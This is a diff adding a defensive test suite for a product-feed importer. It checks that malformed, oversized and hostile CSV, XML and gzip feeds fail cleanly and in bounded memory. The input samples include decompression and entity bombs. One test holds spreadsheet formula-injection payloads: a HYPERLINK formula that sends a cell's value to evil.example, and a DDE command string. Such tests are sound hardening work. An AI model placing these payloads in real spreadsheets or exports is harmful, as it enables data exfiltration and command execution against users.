@@ -1,0 +1,196 @@
+import { join } from 'node:path'
+import { truncateSync, writeFileSync } from 'node:fs'
+import { gzipSync } from 'node:zlib'
+import { describe, expect, it } from 'vitest'
+import { importFeed } from '../../../src/catalog-service/import/import-feed.ts'
+import { readFeed } from '../../../src/catalog-service/import/read-feed.ts'
+import {
+  GTINS,
+  type StoreUnderTest,
+  importRows,
+  importText,
+  makeProduct,
+  openTestStore,
+  fetchAll,
+} from '../harness.ts'
+import { readText } from './read-text.ts'
+
+const MIB = 1024 * 1024
+
+/** Memory that an import may take beside what is there: rows of 8 MiB, some copies of one, and what is not yet collected. */
+const MAX_GROWTH_BYTES = 400 * MIB
+
+const HEAD = 'gtin,title,link,price\n'
+const GOOD_ROW = '17,T,https://shop.example/,1.00 EUR\n'
+const ITEM =
+  '<item><g:gtin>17</g:gtin><title>T</title><link>https://shop.example/</link><g:price>1 EUR</g:price>'
+const LONG = 'A long description, with words enough. '.repeat(100).replaceAll(',', '')
+const RSS = `<rss><channel>${ITEM}</item>`
+
+type Repeat = { count: number; end?: string }
+
+async function* repeat(head: string, piece: string, { count, end = '' }: Repeat): AsyncGenerator<Buffer> {
+  yield Buffer.from(head)
+  const bytes = Buffer.from(piece.repeat(Math.ceil((64 * 1024) / piece.length)))
+  for (let index = 0; index < count; index++) yield bytes
+  yield Buffer.from(end)
+}
+
+/** Reads to the end, and answers by how much memory grew at most. */
+async function readGrowth(chunks: AsyncIterable<Buffer>): Promise<number> {
+  const before = process.memoryUsage().rss
+  let most = before
+  const feed = await readFeed({ file: 'feed', chunks, format: undefined, names: {}, nowMs: 0 })
+  for await (const rows of feed.batches) if (rows.length > 0) most = Math.max(most, process.memoryUsage().rss)
+  return Math.max(most, process.memoryUsage().rss) - before
+}
+
+function fetchGtins(under: StoreUnderTest, channelId: string): string[] {
+  return fetchAll(under, channelId).map(({ gtin }) => gtin)
+}
+
+describe('feed without an end', () => {
+  it.each([
+    ['cell in quotes', `${HEAD}${GOOD_ROW}17,"`, 'x'],
+    ['cell without quotes', `${HEAD}${GOOD_ROW}17,`, 'x'],
+    ['row of empty cells', `${HEAD}${GOOD_ROW}`, ','],
+    ['row of quotes', `${HEAD}${GOOD_ROW}17,`, '"'],
+    ['header', 'gtin,title,', 'x'],
+    ['cell of U+0000', `${HEAD}${GOOD_ROW}"`, '\u0000'],
+    ['text of an element', `${RSS}<item><title>`, 'x'],
+    ['CDATA', `${RSS}<item><title><![CDATA[`, 'x'],
+    ['comment', `${RSS}<!--`, 'x'],
+    ['instruction', `${RSS}<?x `, 'x'],
+    ['attribute', `${RSS}<item a="`, 'x'],
+    ['attributes', `${RSS}<item `, 'a b c'],
+    ['name of an element', `${RSS}<item><`, 'x'],
+    ['name of an entity', `${RSS}<item><title>&`, 'x'],
+    ['white space', RSS, ' '],
+    ['elements in an item', `${RSS}<item>`, '<a>b</a>'],
+    ['elements that are no items', '<rss><channel>', '<product><g:gtin>17</g:gtin></product>'],
+    ['document type', '<!DOCTYPE rss [', '<!ENTITY a "b">'],
+    ['document type of brackets', '<!DOCTYPE rss [', '['],
+    ['beginning', '<', 'x'],
+    ['declaration', '<?xml ', ' '],
+  ])('%s - ends with an ImportError, in bounded memory', async (_, head, piece) => {
+    const endless = repeat(head, piece, { count: Number.POSITIVE_INFINITY })
+    const before = process.memoryUsage().rss
+    await expect(readGrowth(endless)).rejects.toMatchObject({ code: 'VITRINE_IMPORT_FAILED' })
+    expect(process.memoryUsage().rss - before).toBeLessThan(MAX_GROWTH_BYTES)
+  })
+
+  it('line of JSON - 1 GB - is one reject, in bounded memory', async () => {
+    const growth = await readGrowth(repeat('{"gtin":"17","title":"', 'x', { count: 16 * 1024 }))
+    expect(growth).toBeLessThan(MAX_GROWTH_BYTES)
+  })
+
+  it.each([
+    ['table', [`note,${HEAD}`, `${LONG},${GOOD_ROW}`, '']],
+    ['XML', ['<rss><channel>', `${ITEM}<note>${LONG}</note></item>`, '</channel></rss>']],
+  ])('%s - 50 MB of rows - in bounded memory', async (_, [head = '', row = '', end = '']) => {
+    const growth = await readGrowth(repeat(head, row, { count: 800, end }))
+    expect(growth).toBeLessThan(MAX_GROWTH_BYTES)
+  })
+})
+
+describe('feed that fails as a whole', () => {
+  const deep = `<rss><channel>${ITEM}</item>${'<a>'.repeat(200_000)}`
+  const columns = Array.from({ length: 10_000 }, (_, index) => `c${index}`).join(',')
+
+  it.each([
+    ['quote not closed', `${HEAD}${GOOD_ROW}24,"T`, 'a quoted cell is not closed'],
+    ['cell of 9 MiB', `${HEAD}${GOOD_ROW}24,"${'x'.repeat(9 * MIB)}",`, 'a row is longer than 8388608 bytes'],
+    ['10,000 columns', `${HEAD.trim()},${columns}\n${GOOD_ROW}`, '10004 columns'],
+    ['XML cut off', `${RSS}<item>`, 'unclosed tag'],
+    ['XML nested deep', deep, 'more than 100 deep'],
+    ['XML with U+0000', `${RSS}\u0000</channel></rss>`, 'U+0000'],
+    ['XML with a bomb', `<!DOCTYPE a [<!ENTITY b "c">]>${RSS}</channel></rss>`, 'document type'],
+    ['zip', 'PK\u0003\u0004x', 'unpack it first'],
+    ['none that is known', 'hello', 'no feed that is known'],
+    ['no usable row', `${HEAD}18,T,https://shop.example/,1 EUR\n`, 'gtin: the check digit is wrong (1)'],
+  ])('%s - ImportError, nothing changed', async (_, text, message) => {
+    const under = await openTestStore()
+    const { channelId } = await importRows(under, [makeProduct('31')])
+    await expect(importText(under, text)).rejects.toMatchObject({
+      code: 'VITRINE_IMPORT_FAILED',
+      message: expect.stringContaining(message),
+    })
+    expect(fetchGtins(under, channelId)).toEqual([GTINS[2]])
+  })
+
+  it.each([
+    ['table', HEAD, GOOD_ROW],
+    ['XML', '<rss><channel>', `${ITEM}</item>\n`],
+  ])('gzip of a %s - cut off - ImportError, nothing changed', async (_, head, row) => {
+    const under = await openTestStore()
+    const { channelId } = await importRows(under, [makeProduct('31')])
+    const rows = Array.from({ length: 20_000 }, (_, index) => row.replace('T', `T${index * 7_919}`))
+    const file = join(under.folder, 'feed.gz')
+    writeFileSync(file, gzipSync(head + rows.join('')))
+    truncateSync(file, 20_000)
+    await expect(importFeed({ store: under.store, file })).rejects.toThrow('it is cut off')
+    expect(fetchGtins(under, channelId)).toEqual([GTINS[2]])
+  })
+
+  it('gzip - a little file of 200 MB of nothing - ImportError, in bounded memory', async () => {
+    const under = await openTestStore()
+    const zeros = Buffer.alloc(200 * MIB, 'x')
+    const packed = Buffer.concat([gzipSync(`${HEAD}17,"`), gzipSync(zeros, { level: 1 })])
+    await expect(importText(under, packed)).rejects.toThrow('a row is longer than')
+  })
+})
+
+describe('feed with hostile cells', () => {
+  const awin =
+    'merchant_deep_link,search_price,product_price_old,alternate_image,stock_quantity,isbn,brand_name'
+  const google = 'sale_price,sale_price_effective_date,additional_image_link,availability,condition,brand'
+
+  it.each([
+    ['white space', ' '.repeat(200_000)],
+    ['commas and white space', ' ,'.repeat(100_000)],
+    ['digits', '1'.repeat(200_000)],
+    ['groups of digits', '1,111 '.repeat(30_000)],
+    ['beginnings of tags', '<a '.repeat(60_000)],
+    ['beginnings of entities', '&#1'.repeat(60_000)],
+    ['hyphens', '-'.repeat(200_000)],
+  ])('%s - 200 kB, in every column - takes no longer than other text', async (_, piece) => {
+    const startedAtMs = performance.now()
+    for (const names of [`product_name,${awin}`, google]) {
+      for (const cell of [`"a${piece}b"`, `"1${piece}1"`]) {
+        const cells = names.split(',').map(() => cell)
+        await readText(`${names},${HEAD}${cells.join(',')},${GOOD_ROW}`)
+        await readText(`${names},${HEAD}${cells.join(',')},17,${cell},https://shop.example/,${cell}\n`)
+      }
+    }
+    expect(performance.now() - startedAtMs).toBeLessThan(10_000)
+  })
+
+  it('blank lines - before anything else - take no longer than other text', async () => {
+    const startedAtMs = performance.now()
+    await expect(readText('\n'.repeat(500_000))).rejects.toThrow('no feed that is known')
+    expect(performance.now() - startedAtMs).toBeLessThan(1_000)
+  })
+
+  it('formulas, markup and commands - in every cell - arrive as text', async () => {
+    const title = `=HYPERLINK(""https://evil.example/?x=""&A1,""x"")`
+    const under = await openTestStore()
+    const summary = await importText(
+      under,
+      `gtin,title,link,price,brand\n17,"${title}",https://shop.example/,1.00 EUR,+cmd|' /C calc'!A0\n`,
+    )
+    const items = fetchAll(under, summary.channelId)
+    expect(items).toMatchObject([
+      { title: '=HYPERLINK("https://evil.example/?x="&A1,"x")', brand: "+cmd|' /C calc'!A0" },
+    ])
+  })
+
+  it('names of JavaScript - as columns and elements - are names like others', async () => {
+    const names = '__proto__,constructor,toString'
+    const table = await readText(`${names},${HEAD}a,b,c,${GOOD_ROW}`)
+    expect(table.products).toHaveLength(1)
+    const xml = await readText(
+      `${RSS.slice(0, -7)}<__proto__>a</__proto__><constructor>b</constructor></item></channel></rss>`,
+    )
+    expect(xml.products).toHaveLength(1)
+  })
+})
